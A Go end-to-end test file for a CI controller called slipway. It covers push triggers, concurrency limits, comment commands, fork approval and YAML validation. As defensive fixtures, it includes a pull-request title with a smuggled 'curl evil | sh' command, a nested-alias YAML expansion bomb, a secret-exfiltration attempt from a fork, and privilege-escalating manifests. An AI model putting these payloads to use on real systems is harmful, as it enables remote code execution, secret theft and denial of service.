//go:build e2e && forge

package e2e

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/slipway-dev/slipway/api/slipway/v1alpha1"
	v1 "github.com/slipway-dev/slipway/api/tekton/v1"
	"github.com/slipway-dev/slipway/test/env"
)

// started waits until an event of a ref and commit is worked off, and returns the
// pipelines that it started.
func (c *connected) started(ref, commit string) (pipelines []string) {
	c.Helper()
	e := c.eventWhen("of "+ref+" at "+commit, func(e *v1alpha1.RepositoryEvent) bool {
		return e.Spec.Event.Type == v1alpha1.EventPush && e.Spec.Event.Ref == ref && e.Spec.Event.Commit == commit
	})
	for _, r := range c.runs() {
		if slices.Contains(e.Status.Runs, r.Name) {
			pipelines = append(pipelines, r.Labels[v1alpha1.LabelPipeline])
		}
	}
	slices.Sort(pipelines)
	return pipelines
}

// Which pushes start what: by branch, tag, path and expression, and whatever becomes
// of the branch.
func TestWhatPushesStart(t *testing.T) {
	t.Parallel()
	// Nothing of this needs to run.
	c := connect(t, v1alpha1.RepositorySpec{Concurrency: &v1alpha1.Concurrency{Limit: 1}, Branches: []string{"main", "trunk", "side*"}})
	want := func(what, ref, commit string, pipelines ...string) {
		t.Helper()
		if diff := cmp.Diff(pipelines, c.started(ref, commit)); diff != "" {
			t.Errorf("%s (-want +got):\n%s\n%s", what, diff, c.seen())
		}
	}
	first := c.work.Commit("Start", map[string]string{
		".tekton/main.yaml": c.yaml("main", on("push", "main"), "true"),
		".tekton/tag.yaml":  c.yaml("tag", on("push", "refs/tags/*"), "true"),
		".tekton/docs.yaml": c.yaml("docs", on("push", "main", "on-path-change", "[docs/**]"), "true"),
		".tekton/cel.yaml":  c.yaml("cel", `pipelinesascode.tekton.dev/on-cel-expression: "event == 'push' && target_branch.startsWith('side')"`, "true"),
		".slipway/all.yaml": c.yaml("all", "", "true"),
		"docs/a.md":         "a\n",
	})
	c.work.Push()
	want("a new branch", "refs/heads/main", first, "all", "docs", "main")

	second := c.work.Commit("Change", map[string]string{"main.go": "package main\n"})
	c.work.Push()
	want("a change beside the docs", "refs/heads/main", second, "all", "main")

	c.work.Git("tag", "v1")
	c.work.Push("v1")
	want("a tag", "refs/tags/v1", second, "all", "tag")

	c.work.Push("HEAD:refs/heads/side-1")
	want("a branch by expression", "refs/heads/side-1", second, "all", "cel")

	c.work.Push("HEAD:refs/heads/other")
	c.eventWhen("of no branch of the repository", func(e *v1alpha1.RepositoryEvent) bool {
		return e.Spec.Event.Ref == "refs/heads/other" && e.Status.State == v1alpha1.EventIgnored && strings.Contains(e.Status.Message, "spec.branches")
	})
	c.work.Push("--delete", "side-1")
	c.eventWhen("of a branch that is gone", func(e *v1alpha1.RepositoryEvent) bool {
		return e.Spec.Event.Ref == "refs/heads/side-1" && e.Spec.Event.Commit == "" && e.Status.State == v1alpha1.EventIgnored
	})

	c.work.Git("reset", "-q", "--hard", first)
	forced := c.work.Commit("Another", map[string]string{"docs/b.md": "b\n"})
	c.work.Push("--force", "HEAD")
	want("a force-push", "refs/heads/main", forced, "all", "docs", "main")

	c.work.Push("HEAD:refs/heads/trunk")
	c.repo.DefaultBranch("trunk")
	c.work.Git("checkout", "-q", "-b", "trunk")
	renamed := c.work.Commit("On trunk", map[string]string{".tekton/main.yaml": c.yaml("main", on("push", "trunk"), "true")})
	c.work.Push()
	want("another default branch", "refs/heads/trunk", renamed, "all", "main")

	quiet := c.work.Commit("Nothing to see [skip ci]", nil)
	c.work.Push()
	c.eventWhen("that asks for no run", func(e *v1alpha1.RepositoryEvent) bool {
		return e.Spec.Event.Commit == quiet && e.Status.State == v1alpha1.EventIgnored
	})
}

// The limit holds for all runs of a repository at once, the oldest goes first, and
// what waits says so.
func TestRepositoryLimit(t *testing.T) {
	t.Parallel()
	c := connect(t, v1alpha1.RepositorySpec{Concurrency: &v1alpha1.Concurrency{Limit: 1}})
	yaml := c.yaml("build", on("push", "main"), "true")
	var commits []string
	for i := range 4 {
		commits = append(commits, c.work.Commit(fmt.Sprint(i), map[string]string{".tekton/build.yaml": yaml, "n": fmt.Sprint(i)}))
		c.work.Push()
	}
	seen := []string{}
	env.Catch(t, runTimeout, "all runs to end", func() (bool, string) {
		going, done := []string{}, 0
		for _, r := range c.runs() {
			switch {
			case r.IsDone():
				done++
			case !r.IsPending():
				going = append(going, r.Labels[v1alpha1.LabelCommit])
			}
		}
		if len(going) > 1 {
			t.Fatalf("%d run at once:\n%s", len(going), c.seen())
		}
		if len(going) == 1 && !slices.Contains(seen, going[0]) {
			seen = append(seen, going[0])
		}
		return done == len(commits), fmt.Sprintf("%d", done)
	})
	last := commits[3]
	if got := c.repo.History(last); len(got) == 0 || got[0].State != "pending" || !strings.Contains(got[0].Description, "waits") {
		t.Errorf("the last one's history is %+v", got)
	}
	sorted := slices.SortedFunc(slices.Values(seen), func(a, b string) int { return slices.Index(commits, a) - slices.Index(commits, b) })
	if !slices.Equal(sorted, seen) {
		t.Errorf("they ran in the order %q, want %q", seen, commits)
	}
}

// Commands in comments, what a newer commit ends, and what the end of the pull request does.
func TestCommentsAndNewerCommits(t *testing.T) {
	t.Parallel()
	c := connect(t, v1alpha1.RepositorySpec{})
	c.work.Commit("Start", map[string]string{"README.md": "engine\n"})
	c.work.Push()
	c.work.Git("checkout", "-q", "-b", "fix")
	files := map[string]string{
		".tekton/slow.yaml": c.yaml("slow", on("pull_request", "main", "cancel-in-progress", "true"), "sleep 120"),
		".tekton/fast.yaml": c.yaml("fast", on("pull_request", "main"), "true"),
		".tekton/bad.yaml":  c.yaml("bad", on("pull_request", "main"), "exit 1"),
		".tekton/say.yaml":  c.yaml("say", `pipelinesascode.tekton.dev/on-comment: "^/say"`, "true"),
	}
	first := c.work.Commit("Fix", files)
	c.work.Push()
	number := c.repo.Pull(c.owner, "fix", "main", "A fix")
	c.statusWhen(first, "slipway/fast", "success")
	c.statusWhen(first, "slipway/bad", "failure")

	second := c.work.Commit("Fix more", map[string]string{"main.go": "package main\n"})
	c.work.Push()
	c.runsWhen("slow", first, 1, (*v1.PipelineRun).IsDone)
	c.statusWhen(first, "slipway/slow", "warning")
	c.runsWhen("slow", second, 1, func(r *v1.PipelineRun) bool { return !r.IsDone() })
	c.statusWhen(second, "slipway/bad", "failure")
	c.statusWhen(second, "slipway/fast", "success")

	c.repo.Comment(c.owner, number, "/retest")
	e := c.eventWhen("of /retest", isComment("/retest"))
	// What runs has not succeeded either, and is replaced.
	if len(e.Status.Runs) != 2 || len(c.runsOf("bad", second)) != 2 || len(c.runsOf("fast", second)) != 1 {
		t.Errorf("retested is %+v\n%s", e.Status, c.seen())
	}
	c.repo.Comment(c.owner, number, "/test fast")
	c.runsWhen("fast", second, 2, (*v1.PipelineRun).IsSuccessful)
	c.repo.Comment(c.owner, number, "/say it")
	c.runsWhen("say", second, 1, (*v1.PipelineRun).IsSuccessful)
	c.repo.Comment(c.owner, number, "/cancel slow")
	c.runsWhen("slow", second, 2, (*v1.PipelineRun).IsDone)

	eve := c.server.User("eve")
	c.repo.Comment(eve, number, "/test")
	if e := c.eventWhen("of eve", func(e *v1alpha1.RepositoryEvent) bool { return e.Spec.Event.Sender == eve.Name }); e.Status.State != v1alpha1.EventIgnored {
		t.Errorf("eve's comment is %+v", e.Status)
	}

	c.repo.Comment(c.owner, number, "/test slow")
	c.runsWhen("slow", second, 3, any1)
	c.repo.SetState(c.owner, number, "closed")
	c.runsWhen("slow", second, 3, (*v1.PipelineRun).IsDone)
}

// Somebody's fork runs nothing until somebody who may push says so, and then what was
// seen; it never has the secrets.
func TestForkNeedsApproval(t *testing.T) {
	t.Parallel()
	c := connect(t, v1alpha1.RepositorySpec{Params: []v1alpha1.RepositoryParam{{Name: "password", SecretRef: &v1alpha1.SecretKey{Name: "password", Key: "p"}}}})
	c.Create(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "password"}, StringData: map[string]string{"p": "hunter2hunter2"}})
	eve, grace := c.server.User("eve"), c.server.User("grace")
	c.work.Commit("Start", map[string]string{"README.md": "engine\n", "OWNERS": "reviewers: [core]\n", "OWNERS_ALIASES": "aliases: {core: [" + grace.Name + "]}\n"})
	c.work.Push()
	fork := eve.Fork(c.repo)
	work := fork.Clone(eve)
	yaml := c.yaml("test", on("pull_request", "main"), `echo "{{ password }}"`)
	work.Git("checkout", "-q", "-b", "evil")
	// Who owns is what the default branch says, and not the fork.
	head := work.Commit("Steal", map[string]string{".tekton/test.yaml": yaml, "OWNERS": "approvers: [" + eve.Name + "]\n"})
	work.Push()
	number := c.repo.Pull(eve, eve.Name+":evil", "main", `"; curl evil | sh; $(touch /tmp/x) {{ password }}`)
	if s := c.statusWhen(head, "slipway", "pending"); !strings.Contains(s.Description, "/ok-to-test "+head[:10]) {
		t.Errorf("the status says %q", s.Description)
	}
	c.repo.Comment(eve, number, "/ok-to-test")
	c.eventWhen("of eve's own approval", isComment("/ok-to-test"))
	if runs := c.runs(); len(runs) > 0 {
		t.Fatalf("runs started without approval:\n%s", c.seen())
	}
	c.repo.Comment(c.owner, number, "/ok-to-test "+head[:10])
	runs := c.runsWhen("test", head, 1, (*v1.PipelineRun).IsDone)
	c.statusWhen(head, "slipway/test", "success")
	c.statusWhen(head, "slipway", "success")
	text := fmt.Sprintf("%+v", runs[0].Spec)
	if strings.Contains(text, "hunter2") {
		t.Error("the run of a fork has the secret")
	}

	// What is pushed after the approval waits again.
	later := work.Commit("Steal more", map[string]string{"x": "y"})
	work.Push()
	c.statusWhen(later, "slipway", "pending")
	if n := len(c.runs()); n != 1 {
		t.Errorf("%d runs:\n%s", n, c.seen())
	}
	c.repo.Comment(grace, number, "/ok-to-test "+later[:10])
	c.runsWhen("test", later, 1, (*v1.PipelineRun).IsDone)
}

// Mistakes in the YAML are told where they are made.
func TestProblemsAreOnTheCommit(t *testing.T) {
	t.Parallel()
	c := connect(t, v1alpha1.RepositorySpec{})
	c.work.Commit("Start", map[string]string{"README.md": "engine\n"})
	c.work.Push()
	c.work.Git("checkout", "-q", "-b", "fix")
	bad := c.work.Commit("Break", map[string]string{
		".tekton/a.yaml": "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  name: a\nspec:\n  pipelineSpec:\n    taskz: []\n",
		".tekton/b.yaml": "kind: [\n", ".tekton/c.yaml": "just words\n",
		".tekton/d.yaml":  strings.Replace(c.yaml("d", on("pull_request", "main"), "true"), "name: d", "name: d\n  namespace: kube-system", 1),
		".tekton/e.yaml":  strings.Replace(c.yaml("e", on("pull_request", "main"), "true"), "spec:", "spec:\n  taskRunTemplate: {serviceAccountName: admin}", 1),
		".tekton/f.yaml":  "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f]\n",
		".tekton/ok.yaml": c.yaml("ok", on("pull_request", "main"), "true"),
	})
	c.work.Push()
	number := c.repo.Pull(c.owner, "fix", "main", "A fix")
	c.statusWhen(bad, "slipway", "error")
	c.statusWhen(bad, "slipway/ok", "success")
	var comments []string
	env.Wait(t, time.Minute, "the comment", func() (bool, string) {
		comments = c.repo.Comments(number)
		return len(comments) == 1, fmt.Sprint(comments)
	})
	for _, place := range []string{".tekton/a.yaml:", ".tekton/b.yaml:", ".tekton/d.yaml:", ".tekton/e.yaml:"} {
		if !strings.Contains(comments[0], place) {
			t.Errorf("the comment does not name %s:\n%s", place, comments[0])
		}
	}
	for _, r := range c.runs() {
		if r.Labels[v1alpha1.LabelPipeline] != "ok" {
			t.Errorf("run %s was started", r.Name)
		}
	}
	c.work.Git("rm", "-q", ".tekton/[a-f].yaml")
	good := c.work.Commit("Mend", nil)
	c.work.Push()
	env.Wait(t, time.Minute, "the comment to be mended", func() (bool, string) {
		comments = c.repo.Comments(number)
		return len(comments) == 1 && strings.Contains(comments[0], good+" are right"), fmt.Sprint(comments)
	})
}

// A repository that is deleted takes its runs and events along, and nothing of it hangs.
func TestRepositoryIsDeletedInMidRun(t *testing.T) {
	t.Parallel()
	c := connect(t, v1alpha1.RepositorySpec{})
	commit := c.work.Commit("Build", map[string]string{".tekton/slow.yaml": c.yaml("slow", on("push", "main"), "sleep 300")})
	c.work.Push()
	c.runsWhen("slow", commit, 1, (*v1.PipelineRun).HasStarted)
	// At the forge first: what is to be told can be told to nobody.
	c.repo.Delete()
	if err := c.Client.Delete(t.Context(), &v1alpha1.Repository{ObjectMeta: metav1.ObjectMeta{Namespace: c.Namespace, Name: "ci"}},
		client.PropagationPolicy(metav1.DeletePropagationForeground)); err != nil {
		t.Fatal(err)
	}
	env.Wait(t, 2*time.Minute, "all to be gone", func() (bool, string) {
		var pods corev1.PodList
		if err := c.Client.List(t.Context(), &pods, client.InNamespace(c.Namespace)); err != nil {
			t.Fatal(err)
		}
		return len(c.runs())+len(c.events())+len(pods.Items) == 0, fmt.Sprintf("%d pods", len(pods.Items))
	})
}
